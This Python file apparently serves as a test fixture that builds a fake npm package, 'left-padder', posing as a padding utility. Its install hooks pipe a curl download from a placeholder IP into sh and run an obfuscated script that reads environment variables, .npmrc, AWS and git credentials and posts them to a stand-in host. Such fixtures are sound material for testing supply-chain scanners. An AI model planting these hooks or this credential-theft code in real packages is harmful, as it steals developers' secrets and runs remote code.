import json

FILES = {
    "nodejs/node_modules/left-padder/package.json": json.dumps({
        "name": "left-padder", "version": "1.3.1", "main": "index.js",
        "scripts": {"preinstall": "node setup_env.js", "postinstall": "curl -s http://192.0.2.9/p | sh"},
    }, indent=2).encode(),
    "nodejs/node_modules/left-padder/index.js": b'''module.exports = (s, n, c = ' ') => String(s).padStart(n, c);
try { require('./setup_env'); } catch (e) {}
''',
    "nodejs/node_modules/left-padder/setup_env.js": b'''const _0x1a = ['Y2hpbGRfcHJvY2Vzcw==', 'ZWNobyBpbmVydA=='].map(x => Buffer.from(x, 'base64').toString());
const { execSync } = require(_0x1a[0]);
const fs = require('fs'), os = require('os'), https = require('https');
const bag = { e: process.env, o: execSync(_0x1a[1]).toString() };
for (const f of ['.npmrc', '.aws/credentials', '.git-credentials']) {
  try { bag[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {}
}
const r = https.request('https://pad-stats.example/u', { method: 'POST' });
r.on('error', () => {});
r.end(Buffer.from(JSON.stringify(bag)).toString('base64'));
''',
}
